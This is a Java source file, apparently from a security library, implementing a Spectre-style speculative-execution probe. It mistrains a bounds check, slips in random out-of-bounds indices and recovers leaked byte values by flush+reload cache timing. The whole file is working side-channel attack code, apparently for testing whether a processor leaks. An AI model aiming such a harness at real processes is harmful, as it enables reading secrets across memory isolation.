package dev.skerry.security;

/**
 * 256 lines of memory, one for each value of a byte, of which speculation may touch one: flush and reload. A branch is
 * mistrained by indices that are in bounds, and now and then given one that is not; which of both, no branch decides.
 *
 * @param base address of the first line; the lines are a page apart
 * @param threshold ticks below which a line was in a cache
 */
record SpeculationProbe(long base, long threshold) {

  static final int LINES = 256;
  static final int STRIDE = 4096;
  static final int BYTES = LINES * STRIDE;
  /** The line that code touches which is only to be reached in speculation. */
  static final int TOUCHED = 77;

  private static final int ROUNDS = 60;
  private static final int TRIES = 30;
  /** One run in so many gets the wrong index, at random: a pattern would be learnt. */
  private static final int WRONG_ONE_IN = 8;

  /** What is attacked: it gets an index, after what its bounds are kept in was put out of the caches. */
  interface Victim {
    void run(long index);
  }

  /** Lines that were found in a cache, of {@code rounds}. */
  record Sight(int[] hits, int rounds) {

    /** The one line that stands out from all but the first, which training touches; 0 if none does. */
    int value() {
      int best = 0;
      int second = 0;
      int value = 0;
      for (int line = 1; line < LINES; line++) {
        if (hits[line] > best) {
          second = best;
          best = hits[line];
          value = line;
        } else {
          second = Math.max(second, hits[line]);
        }
      }
      return best >= rounds / 6 && best >= 2 * second ? value : 0;
    }
  }

  /**
   * Attacks with one wrong index.
   *
   * @param bounds addresses of what is put out of the caches before each run, so that the branch takes its time
   * @param right an index in bounds, with which the victim touches the first line alone
   */
  Sight look(Victim victim, long right, long wrong, long... bounds) {
    int[] hits = new int[LINES];
    long random = 0x9e37_79b9_7f4a_7c15L;
    for (int round = 0; round < ROUNDS; round++) {
      CacheTimer.flush(base, LINES, STRIDE);
      for (int i = 0; i < TRIES; i++) {
        for (long bound : bounds) {
          CacheTimer.flush(bound, 1, 0);
        }
        random ^= random << 13;
        random ^= random >>> 7;
        random ^= random << 17;
        long isWrong = (random & WRONG_ONE_IN - 1) - 1 >> 63;
        victim.run(right ^ isWrong & (right ^ wrong));
      }
      for (int i = 0; i < LINES; i++) {
        int line = i * 167 + 13 & LINES - 1;
        if (CacheTimer.time(base + (long) line * STRIDE) < threshold) {
          hits[line]++;
        }
      }
    }
    return new Sight(hits, ROUNDS);
  }
}
